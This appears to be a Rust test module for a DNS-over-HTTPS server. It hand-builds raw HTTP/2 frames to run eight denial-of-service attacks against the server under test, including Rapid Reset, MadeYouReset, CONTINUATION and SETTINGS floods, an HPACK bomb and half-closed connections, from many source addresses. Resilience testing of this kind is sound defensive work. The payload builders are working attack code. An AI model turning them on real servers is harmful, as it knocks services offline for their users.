//! HTTP/2 by hand: frames as RFC 9113 writes them, put together as no client would.

use std::io::{self, Read, Write};
use std::net::Ipv4Addr;
use std::time::{Duration, Instant};

use bailiwick_tests::encrypted::{Encrypted, Stream};

use super::attacker;

/// One way to hurt a server: what is sent once, and what is sent again and again. `id` is odd and grows.
pub(super) struct Attack {
    pub(super) name: &'static str,
    first: fn() -> Vec<u8>,
    again: fn(id: u32) -> Vec<u8>,
    /// The event that the server counts, and how often at least. Where it is handshakes, each connection
    /// was ended by the server and made anew.
    pub(super) counted: (&'static str, u64),
    /// Sends once, then keeps silent with the connection half closed.
    stays: bool,
}

pub(super) const RAPID_RESET: Attack = Attack {
    name: "rapid reset (CVE-2023-44487)",
    first: Vec::new,
    again: |id| [headers(id, END_HEADERS, &post()), reset(id)].concat(),
    counted: ("connections_cut", 100),
    stays: false,
};

pub(super) const MADE_YOU_RESET: Attack = Attack {
    name: "MadeYouReset (CVE-2025-8671)",
    first: Vec::new,
    // A window update of nothing makes the server reset the stream (RFC 9113 6.9).
    again: |id| [headers(id, END_HEADERS, &post()), frame(8, 0, id, &[0; 4])].concat(),
    counted: ("connections_cut", 100),
    stays: false,
};

pub(super) const CONTINUATION_FLOOD: Attack = Attack {
    name: "CONTINUATION flood (RUSTSEC-2024-0332)",
    first: || headers(1, 0, &get("/dns-query")),
    again: |_| frame(9, 0, 1, &literal("x", &"y".repeat(4000))),
    counted: ("connections_cut", 100),
    stays: false,
};

pub(super) const SETTINGS_FLOOD: Attack = Attack {
    name: "SETTINGS flood",
    first: Vec::new,
    again: |_| frame(4, 0, 0, &[0, 3, 0, 0, 0, 100]).repeat(100),
    counted: ("connections_cut", 100),
    stays: false,
};

pub(super) const EMPTY_DATA: Attack = Attack {
    name: "empty DATA frames (RUSTSEC-2026-0258)",
    first: || headers(1, END_HEADERS, &post()),
    again: |_| frame(0, 0, 1, &[]).repeat(100),
    counted: ("connections_cut", 100),
    stays: false,
};

pub(super) const HPACK_BOMB: Attack = Attack {
    name: "HPACK bomb",
    first: || {
        // One entry of the table, then references to it: an octet stands for 4,000.
        let bomb = [get("/dns-query"), indexed("x", &"y".repeat(4000))].concat();
        headers(1, END_HEADERS | END_STREAM, &bomb)
    },
    again: |id| {
        let bomb = [get("/dns-query"), vec![0xbe; 8000]].concat();
        headers(id + 2, END_HEADERS | END_STREAM, &bomb)
    },
    counted: ("connections_cut", 100),
    stays: false,
};

pub(super) const OVERSIZED_GET: Attack = Attack {
    name: "oversized GET (GO-2026-5164)",
    first: Vec::new,
    again: |id| {
        let path = format!("/dns-query?dns={}", "A".repeat(3500));
        headers(id, END_HEADERS | END_STREAM, &get(&path))
    },
    counted: ("http_errors", 100),
    stays: false,
};

pub(super) const CLOSE_WAIT: Attack = Attack {
    name: "half closed and left (CLOSE_WAIT)",
    first: || headers(1, END_HEADERS, &post()),
    again: |_| Vec::new(),
    counted: ("handshakes", 200),
    stays: true,
};

/// One thread's part in an attack: half of a hundred connections, each from a network of its own.
pub(super) fn run(attack: &Attack, encrypted: &Encrypted, thread: usize, end: Instant) {
    let mut connections: Vec<Option<Connection>> = (0..50).map(|_| None).collect();
    let mut opened = 0;
    // Where the server ends each connection at once, a few hundred are enough.
    while Instant::now() < end && !(attack.stays && opened >= 200) {
        for (n, place) in connections.iter_mut().enumerate() {
            let connection = match place {
                Some(connection) => connection,
                None => match Connection::open(attack, encrypted, attacker(thread * 50 + n)) {
                    Ok(connection) => {
                        opened += 1;
                        place.insert(connection)
                    }
                    Err(_) => continue,
                },
            };
            if connection.go_on(attack).is_err() {
                *place = None;
            }
        }
    }
}

struct Connection {
    stream: Stream,
    id: u32,
}

impl Connection {
    fn open(attack: &Attack, encrypted: &Encrypted, source: Ipv4Addr) -> anyhow::Result<Self> {
        let mut stream = encrypted.connect(source, encrypted.https, b"h2")?;
        stream
            .sock
            .set_read_timeout(Some(Duration::from_millis(1)))?;
        stream
            .sock
            .set_write_timeout(Some(Duration::from_millis(50)))?;
        stream.write_all(&[PREFACE, &frame(4, 0, 0, &[]), &(attack.first)()].concat())?;
        stream.flush()?;
        if attack.stays {
            stream.sock.shutdown(std::net::Shutdown::Write)?;
        }
        Ok(Self { stream, id: 1 })
    }

    /// Sends some more, and takes what has come.
    fn go_on(&mut self, attack: &Attack) -> io::Result<()> {
        if !attack.stays {
            let mut octets = Vec::new();
            for _ in 0..20 {
                octets.extend((attack.again)(self.id));
                self.id += 2;
            }
            self.stream.write_all(&octets)?;
            self.stream.flush()?;
        }
        let mut octets = [0; 16 * 1024];
        match self.stream.read(&mut octets) {
            Ok(0) => Err(io::ErrorKind::UnexpectedEof.into()),
            Ok(_) => Ok(()),
            Err(error) if error.kind() == io::ErrorKind::WouldBlock => Ok(()),
            Err(error) => Err(error),
        }
    }
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let mut octets = (payload.len() as u32).to_be_bytes()[1..].to_vec();
    octets.extend([kind, flags]);
    octets.extend(stream.to_be_bytes());
    octets.extend(payload);
    octets
}

fn headers(stream: u32, flags: u8, block: &[u8]) -> Vec<u8> {
    frame(1, flags, stream, block)
}

fn reset(stream: u32) -> Vec<u8> {
    frame(3, 0, stream, &[0, 0, 0, 8])
}

/// RFC 7541 appendix A: 2 is GET, 3 POST, 7 https; 4 and 1 are the names of path and authority.
fn get(path: &str) -> Vec<u8> {
    [vec![0x82, 0x87], named(4, path), named(1, "localhost")].concat()
}

fn post() -> Vec<u8> {
    let kind = literal("content-type", "application/dns-message");
    [
        vec![0x83, 0x87],
        named(4, "/dns-query"),
        named(1, "localhost"),
        kind,
    ]
    .concat()
}

/// A literal whose name is in the static table.
fn named(index: u8, value: &str) -> Vec<u8> {
    [vec![index], text(value)].concat()
}

/// A literal that is not remembered.
fn literal(name: &str, value: &str) -> Vec<u8> {
    [vec![0], text(name), text(value)].concat()
}

/// A literal that goes into the table: its next reference is 0xbe.
fn indexed(name: &str, value: &str) -> Vec<u8> {
    [vec![0x40], text(name), text(value)].concat()
}

/// RFC 7541 5.1, 5.2: a length in a prefix of seven bits, then octets.
fn text(value: &str) -> Vec<u8> {
    let mut octets = Vec::new();
    let mut len = value.len();
    if len < 127 {
        octets.push(len as u8);
    } else {
        octets.push(127);
        len -= 127;
        while len >= 128 {
            octets.push((len % 128) as u8 | 0x80);
            len /= 128;
        }
        octets.push(len as u8);
    }
    octets.extend(value.as_bytes());
    octets
}

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
